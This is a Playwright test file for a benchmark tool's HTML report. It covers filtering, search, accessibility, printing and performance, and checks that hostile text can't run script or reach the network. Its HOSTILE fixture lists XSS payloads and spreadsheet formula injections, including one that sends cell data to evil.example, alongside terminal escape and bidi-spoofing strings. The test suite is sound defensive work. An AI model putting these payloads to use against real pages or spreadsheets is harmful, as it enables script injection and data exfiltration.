"""The page in a real Chromium: what a reader does with it, and what hostile text can't."""

import json
import time
from collections.abc import Iterator
from dataclasses import replace
from importlib import resources
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect
from report.html.made_pages import LABELS, examples, with_examples

from benchharness.pipeline.recording.page import write_page
from benchharness.records.page import Page, PageAnswer, PageExample, PageText
from benchharness.report.html.page import render
from benchharness.report.verdict.table import side_by_side

READY = "html[data-ready=yes]"
PWN = "window.__pwned = 1"
HOSTILE = (
    f"<script>{PWN}</script>",
    f"</script><script>{PWN}</script>",
    f"</style><img src=x onerror='{PWN}'>",
    f"javascript:{PWN}",
    "<!--<script>",
    "--></template></textarea></title>",
    f"<svg onload={PWN}><a href='javascript:{PWN}'>x</a></svg>",
    "\u202egnp.exe\u2066 and \u200e on",
    "\x1b[31mred\x1b[0m\x9b2J\x07",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "lone \ud800 surrogate \udfff here",
    "zero\x00byte\x00",
    "W" * 1_000_000,
    "http://evil.example/x.png ![x](http://evil.example/y.png)",
    "a\r\nb\u2028c\u2029d\x85e",
    "{{ 7*7 }} ${7*7} &lt;b&gt; &amp;",
)


class Opened:
    """A page in the browser, with everything it did that it should not do."""

    def __init__(self, browser: Any, **context: Any) -> None:
        self.context = browser.new_context(**{"viewport": {"width": 1280, "height": 900}, **context})
        self.page = self.context.new_page()
        self.asked: list[str] = []
        self.wrong: list[str] = []
        self.page.on("request", lambda request: self.asked.append(request.url))
        self.page.on("console", lambda message: self.wrong.append(message.text))
        self.page.on("pageerror", lambda error: self.wrong.append(str(error)))
        self.page.on("dialog", self._refuse)

    def _refuse(self, dialog: Any) -> None:
        self.wrong.append("a dialog")
        dialog.dismiss()

    def go(self, path: Path, *, hash_: str = "", script: bool = True) -> Any:
        self.page.goto(path.as_uri() + hash_)
        if script:
            self.page.wait_for_selector(READY, state="attached", timeout=20_000)
        return self.page


@pytest.fixture
def opening(browser: Any) -> Iterator[Any]:
    opened: list[Opened] = []

    def make(**context: Any) -> Opened:
        opened.append(Opened(browser, **context))
        return opened[-1]

    yield make
    for each in opened:
        each.context.close()


def written(folder: Path, page: Page) -> Path:
    return write_page(page, folder / "report.html")[0]


def rows(page: Any) -> int:
    return int(page.locator("#rows > details").count())


@pytest.fixture(scope="module")
def plain_file(page: Page, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return written(tmp_path_factory.mktemp("plain"), page)


def test_the_first_screen_says_what_to_do(opening: Any, plain_file: Path, page: Page) -> None:
    seen = opening().go(plain_file)
    box = seen.locator("#verdict .changes").bounding_box()
    assert box["y"] + box["height"] < 900
    assert seen.locator("#verdict .word").inner_text() == f"Verdict: {page.verdict.verdict.value}"
    assert seen.evaluate("document.title") == f"support-routing: {page.verdict.verdict.value}"
    assert seen.locator("#charts svg").count() == 3


def test_nothing_leaves_the_page_and_nothing_is_forbidden(opening: Any, plain_file: Path) -> None:
    opened = opening()
    seen = opened.go(plain_file)
    seen.select_option("#filter", "all")
    for at in range(5):
        seen.locator("#rows > details > summary").nth(at).click()
    seen.wait_for_timeout(200)
    assert [each for each in opened.asked if not each.startswith("blob:")] == [plain_file.as_uri()]
    assert opened.wrong == []


def test_filters_follow_the_pair(opening: Any, plain_file: Path, page: Page) -> None:
    seen = opening().go(plain_file)
    left, right = page.pair
    marks = [(each.answers[left], each.answers[right]) for each in page.examples]
    worths = [(a.worth if a else None, b.worth if b else None) for a, b in marks]
    measured = [(a, b) for a, b in worths if a is not None and b is not None]
    wanted = {
        "differ": sum(a != b for a, b in measured),
        "left": sum(a > b for a, b in measured),
        "right": sum(b > a for a, b in measured),
        "both": sum(a == b == 1 for a, b in measured),
        "neither": sum(a < 1 and b < 1 for a, b in measured),
        "missing": len(worths) - len(measured),
        "all": len(worths),
    }
    for name, count in wanted.items():
        seen.select_option("#filter", name)
        assert rows(seen) == min(count, 50), name
        assert (f"of {count} found" in seen.locator("#count").inner_text()) == (count > 0)
    assert wanted["differ"] > 0


def test_disagreements_come_first_and_a_status_is_found(opening: Any, plain_file: Path, page: Page) -> None:
    seen = opening().go(plain_file)
    assert seen.input_value("#filter") == "differ"
    seen.select_option("#filter", "all")
    seen.select_option("#status", "truncated")
    sides = page.pair
    count = sum(
        any(said is not None and said.status == "truncated" for said in (each.answers[side] for side in sides)) for each in page.examples
    )
    assert rows(seen) == count > 0


def test_search_looks_at_id_input_target_and_answers(opening: Any, plain_file: Path, page: Page) -> None:
    seen = opening().go(plain_file)
    seen.select_option("#filter", "all")
    wanted = page.examples[5]
    seen.fill("#search", (wanted.input or "").upper())
    expect(seen.locator("#rows > details")).to_have_count(1)
    assert seen.locator("#rows > details").get_attribute("id") == f"ex-{wanted.id}"
    seen.fill("#search", "no such thing anywhere")
    expect(seen.locator("#rows > details")).to_have_count(0)
    assert "None of" in seen.locator("#count").inner_text()


def test_only_some_rows_are_drawn_and_more_on_demand(opening: Any, tmp_path: Path, page: Page) -> None:
    made = with_examples(page, examples(130, len(page.comparison.candidates)))
    seen = opening().go(written(tmp_path, made))
    seen.select_option("#filter", "all")
    found = []
    while seen.locator("#more").is_visible():
        found.append(rows(seen))
        seen.click("#more")
    assert [*found, rows(seen)] == [50, 100, 130]


def test_the_difference_to_the_target_is_shown_word_by_word(opening: Any, tmp_path: Path, page: Page) -> None:
    answer = PageAnswer(status="answered", matched=False, score=0.0, output="the red fox", parsed="the red fox")
    made = PageExample(id="d1", rank=0, answers=(answer,) * len(page.comparison.candidates), input="q", target="the brown fox")
    seen = opening().go(written(tmp_path, with_examples(page, (made,))), hash_="#ex-d1")
    side = seen.locator(".answer").first
    assert side.locator("ins").inner_text() == "red"
    assert side.locator("del").inner_text() == "brown"
    assert side.locator(".text").text_content() == "the redbrown fox"
    seen.check("#raw")
    seen.locator("#rows > details > summary").first.click()
    assert seen.locator(".answer .text").first.inner_text() == "the red fox"
    assert seen.locator(".answer").first.locator("ins, del").count() == 0


def test_a_link_opens_its_example_even_one_the_filter_leaves_out(opening: Any, tmp_path: Path, page: Page) -> None:
    n = len(page.comparison.candidates)
    same = PageAnswer(status="answered", matched=True, score=1.0, output="yes", parsed="yes")
    odd = "a/b #1 ü <i>"
    made = (*examples(80, n), PageExample(id=odd, rank=999, answers=(same,) * n, input="the one", target="yes"))
    path = written(tmp_path, with_examples(page, made))
    seen = opening().go(path, hash_="#ex-a%2Fb%20%231%20%C3%BC%20%3Ci%3E")
    first = seen.locator("#rows > details").first
    assert first.get_attribute("id") == f"ex-{odd}"
    assert first.get_attribute("open") is not None
    top = first.bounding_box()["y"]
    assert -5 <= top < 900
    assert first.locator("a", has_text="Link to this example").get_attribute("href") == "#ex-a%2Fb%20%231%20%C3%BC%20%3Ci%3E"
    seen.evaluate("location.hash = '#ex-nobody'")
    expect(seen.locator("#count")).to_contain_text("holds no example")


def test_the_prompt_stands_once_and_is_opened_on_demand(opening: Any, plain_file: Path) -> None:
    seen = opening().go(plain_file)
    seen.locator("#rows > details > summary").first.click()
    seen.locator(".answer a", has_text="Prompt:").first.click()
    assert seen.locator("details.prompt[open]").count() == 1
    assert plain_file.read_text(encoding="utf-8").count("Name the team") == 3, "once for each of the three prompts"


def test_without_javascript_every_number_is_there(opening: Any, plain_file: Path, page: Page) -> None:
    seen = opening(java_script_enabled=False).go(plain_file, script=False)
    text = "".join(seen.locator("body").text_content().split())
    for line in side_by_side(page.comparison, page.record.totals):
        for cell in line.cells:
            assert "".join(cell.split()) in text
    assert seen.locator("#first-examples").is_visible()
    assert not seen.locator("#browser").is_visible()
    assert seen.locator("#first-examples tbody tr").count() > 0


def test_print_is_light_and_has_no_controls(opening: Any, plain_file: Path) -> None:
    opened = opening(color_scheme="dark", viewport={"width": 720, "height": 1000})
    seen = opened.go(plain_file)
    seen.emulate_media(media="print")
    assert seen.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    assert seen.evaluate("getComputedStyle(document.querySelector('.chart .name')).fill") == "rgb(0, 0, 0)"
    assert not seen.locator("nav").is_visible()
    assert not seen.locator("#browser").is_visible()
    assert seen.locator("#first-examples").is_visible()
    assert seen.locator("#labels table").is_visible(), "what is folded away is printed"
    assert seen.pdf(format="A4").startswith(b"%PDF")


@pytest.mark.parametrize("width", [390, 1280])
def test_nothing_overflows(opening: Any, plain_file: Path, width: int) -> None:
    seen = opening(viewport={"width": width, "height": 844}).go(plain_file)
    seen.locator("#rows > details > summary").first.click()
    assert seen.evaluate("document.documentElement.scrollWidth") == width
    assert seen.evaluate("[...document.querySelectorAll('.tiles > div, summary, h2')].every(e => e.scrollWidth <= e.clientWidth + 1)")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(browser: Any, plain_file: Path, scheme: str) -> None:
    axe = resources.files("axe_playwright_python").joinpath("axe.min.js").read_text(encoding="utf-8")
    opened = Opened(browser, color_scheme=scheme, bypass_csp=True)
    seen = opened.go(plain_file)
    seen.locator("#rows > details > summary").first.click()
    seen.locator("details.everybody > summary").first.click()
    for each in seen.locator("main > details > summary, section > details > summary").all():
        each.click()
    seen.evaluate(axe)
    found = seen.evaluate("axe.run(document, {runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice']})")
    opened.context.close()
    told = [(each["id"], each["impact"], [node["html"][:120] for node in each["nodes"][:3]]) for each in found["violations"]]
    assert len(found["passes"]) > 20
    assert not told, json.dumps(told, indent=1)


def hostile(page: Page) -> Page:
    """Return a page in which everything a person or a model may have written is an attack."""
    candidates = len(page.comparison.candidates)
    found = []
    for at, text in enumerate(HOSTILE):
        answers = tuple(
            PageAnswer(
                status="answered", matched=(who + at) % 2 == 0, score=float((who + at) % 2 == 0), output=text, parsed=text[:50], error=text
            )
            for who in range(candidates)
        )
        name = f"{at} {text[:60]}"
        found.append(PageExample(id=name, rank=at, answers=answers, input=text, target=text[::-1], slices=(text[:40],)))
    worst = " ".join(each[:80] for each in HOSTILE)
    findings = tuple(replace(each, sentence=worst, remedy=worst) for each in page.verdict.findings)
    verdict = replace(page.verdict, headline=worst, findings=findings, flips_if=HOSTILE, warnings=HOSTILE, not_tested=HOSTILE)
    named = tuple(replace(each, candidate=HOSTILE[at][:60]) for at, each in enumerate(page.comparison.candidates))
    record = replace(page.record, suite=worst, suite_file=worst, command=HOSTILE[:8], totals=(), labels=())
    comparison = replace(page.comparison, candidates=named)
    changed = replace(page, verdict=verdict, comparison=comparison, record=record, prompts={each.prompt: worst for each in named})
    return replace(with_examples(changed, tuple(found)), notes=HOSTILE[:3], sent=dict.fromkeys(HOSTILE[:4], worst))


@pytest.mark.parametrize("width", [390, 1280])
def test_hostile_text_runs_nothing_asks_nobody_and_breaks_no_layout(opening: Any, tmp_path: Path, page: Page, width: int) -> None:
    made = hostile(page)
    path = written(tmp_path, made)
    assert path.stat().st_size < 1_000_000
    opened = opening(viewport={"width": width, "height": 844})
    seen = opened.go(path)
    seen.select_option("#filter", "all")
    seen.check("#raw")
    for raw in (True, False):
        seen.set_checked("#raw", raw)
        for each in seen.locator("#rows > details > summary").all():
            each.click()
        for each in seen.locator("details.everybody > summary").all():
            each.click()
        while seen.locator(".body button").count():
            seen.locator(".body button").first.click()
        assert seen.evaluate("document.documentElement.scrollWidth") <= width
    seen.fill("#search", "<script>")
    seen.wait_for_timeout(200)
    assert seen.evaluate("window.__pwned") is None
    assert opened.wrong == []
    assert [each for each in opened.asked if not each.startswith("blob:")] == [path.as_uri()]
    assert seen.locator("script").count() == 2, "the data and the page's own"
    assert (
        seen.evaluate("document.querySelectorAll('img, iframe, object, embed, base, form[action], [style], a:not([href^=\"#\"])').length")
        == 0
    )
    assert (
        seen.evaluate("[...document.querySelectorAll('*')].flatMap(e => [...e.attributes]).filter(a => a.name.startsWith('on')).length")
        == 0
    )


def test_what_got_into_the_page_all_the_same_would_be_stopped_by_its_policy(opening: Any, tmp_path: Path, page: Page) -> None:
    attack = f"<script>{PWN}</script><img src='https://evil.example/x.png' onerror='{PWN}'><p style='position:fixed'>x</p>"
    path = tmp_path / "report.html"
    path.write_text(render(page).replace("<main", f"{attack}<main", 1), encoding="utf-8")
    opened = opening()
    seen = opened.go(path)
    seen.wait_for_timeout(200)
    assert seen.evaluate("window.__pwned") is None
    stopped = [each for each in opened.wrong if "Content Security Policy" in each]
    assert all(any(kind in each.lower() for each in stopped) for kind in ("inline script", "inline style", "loading the image"))


def test_graded_answers_are_compared_by_their_score(opening: Any, tmp_path: Path, page: Page) -> None:
    count = len(page.comparison.candidates)
    left, right = page.pair

    def graded(name: str, rank: int, scores: tuple[float, float]) -> PageExample:
        answers = [PageAnswer(status="answered", matched=None, score=0.25, output="x")] * count
        for side, score in zip((left, right), scores, strict=True):
            answers[side] = PageAnswer(status="answered", matched=None, score=score, output="x")
        return PageExample(id=name, rank=rank, answers=tuple(answers), target="y")

    found = (graded("better", 0, (0.75, 0.5)), graded("worse", 1, (0.0, 1.0)), graded("same", 2, (0.5, 0.5)), graded("full", 3, (1.0, 1.0)))
    seen = opening().go(written(tmp_path, with_examples(page, found)))
    shown = {}
    for name in ("differ", "left", "right", "both", "neither"):
        seen.select_option("#filter", name)
        shown[name] = [each.get_attribute("id") for each in seen.locator("#rows > details").all()]
    assert shown == {
        "differ": ["ex-better", "ex-worse"],
        "left": ["ex-better"],
        "right": ["ex-worse"],
        "both": ["ex-full"],
        "neither": ["ex-better", "ex-same"],
    }
    assert "score 0.75" in seen.locator("#rows").inner_text()


def test_a_miss_with_part_of_the_score_says_how_much(opening: Any, tmp_path: Path, page: Page) -> None:
    part = PageAnswer(status="answered", matched=False, score=0.8, output="x")
    made = PageExample(id="p", rank=0, answers=(part,) * len(page.comparison.candidates), target="y")
    seen = opening().go(written(tmp_path, with_examples(page, (made,))))
    assert seen.locator("#rows .tag").first.inner_text() == "✗ miss, score 0.80"


def test_assets_apart_work_without_anything_inline(opening: Any, tmp_path: Path, page: Page) -> None:
    files = write_page(page, tmp_path / "a page.html", split=True)
    assert [each.name for each in files] == ["a page.html", "a page.css", "a page.js", "a page.data.js"]
    text = files[0].read_text(encoding="utf-8")
    assert "<style" not in text
    assert "<script>" not in text
    assert "sha256-" not in text
    opened = opening()
    seen = opened.go(files[0])
    assert rows(seen) > 0
    assert opened.wrong == []
    assert seen.evaluate("getComputedStyle(document.querySelector('.card')).borderLeftStyle") == "solid"


def test_scores_only_and_redacted_pages_open_too(opening: Any, tmp_path: Path, page: Page) -> None:
    for text in (PageText.NONE, PageText.REDACTED):
        opened = opening()
        seen = opened.go(written(tmp_path, replace(page, text=text)))
        seen.locator("#rows > details > summary").first.click()
        shown = seen.locator("#rows").inner_text()
        assert not any(label in shown for label in LABELS)
        assert ("█" in shown) == (text is PageText.REDACTED)
        assert ("as in the target" in shown) == (text is PageText.REDACTED)
        assert opened.wrong == []


def test_a_page_cut_short_keeps_its_list(opening: Any, tmp_path: Path, page: Page) -> None:
    text = render(page)
    start = text.index('id="data">') + 60
    path = tmp_path / "report.html"
    path.write_text(text[:start] + text[start + 400 :], encoding="utf-8")
    opened = opening()
    seen = opened.go(path, script=False)
    seen.wait_for_selector("html[data-ready=no]", state="attached")
    assert seen.locator("#first-examples").is_visible()
    assert "can't be opened in this browser" in seen.locator("#examples").inner_text()


@pytest.mark.parametrize(("count", "words", "most"), [(200, 12, 200_000), (10_000, 60, 8_000_000)])
def test_it_opens_quickly(opening: Any, tmp_path: Path, page: Page, count: int, words: int, most: int) -> None:
    path = written(
        tmp_path, with_examples(page, examples(count, len(page.comparison.candidates), words=words, said=3 if count == 200 else 25))
    )
    size = path.stat().st_size
    opened = opening()
    started = time.perf_counter()
    seen = opened.go(path)
    ready = time.perf_counter() - started
    started = time.perf_counter()
    seen.select_option("#filter", "all")
    filtered = time.perf_counter() - started
    print(f"{count} x {len(page.comparison.candidates)}: {size:,} bytes, ready in {ready:.2f} s, a filter in {filtered:.2f} s")  # noqa: T201 - for whoever runs it with -s
    assert size < most
    assert ready < 10
    assert filtered < 10
    assert rows(seen) == 50
